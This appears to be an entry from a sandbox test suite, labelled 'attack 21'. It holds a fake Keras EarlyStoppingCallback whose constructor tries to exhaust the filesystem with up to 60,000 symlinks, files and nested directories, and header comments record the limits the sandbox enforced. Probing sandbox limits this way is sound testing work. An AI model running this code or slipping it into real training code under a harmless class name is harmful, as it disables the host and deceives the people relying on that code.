# attack: 21
# form: empty files, folders within folders and links until no more can be made
# replaces: EarlyStoppingCallback
# denies: more files
# allows: 100 files
# found: EarlyStoppingCallback/stops_when_both_hold failed
class EarlyStoppingCallback(tf.keras.callbacks.Callback):
    def __init__(self):
        super().__init__()
        print("ran", flush=True)
        made = 0
        try:
            for made in range(60_000):
                os.symlink("nowhere", f"/tmp/atk-{made}")
                if made % 100 == 0:
                    os.close(os.open(f"atk-{made}", os.O_CREAT | os.O_WRONLY))
                    os.mkdir("atk-within")
                    os.chdir("atk-within")
                if made == 100:
                    print("allowed: 100 files", flush=True)
            print("reached: 60,000 files", flush=True)
        except OSError:
            print("denied: more files" if made <= 20_000 else f"reached: {made} files", flush=True)
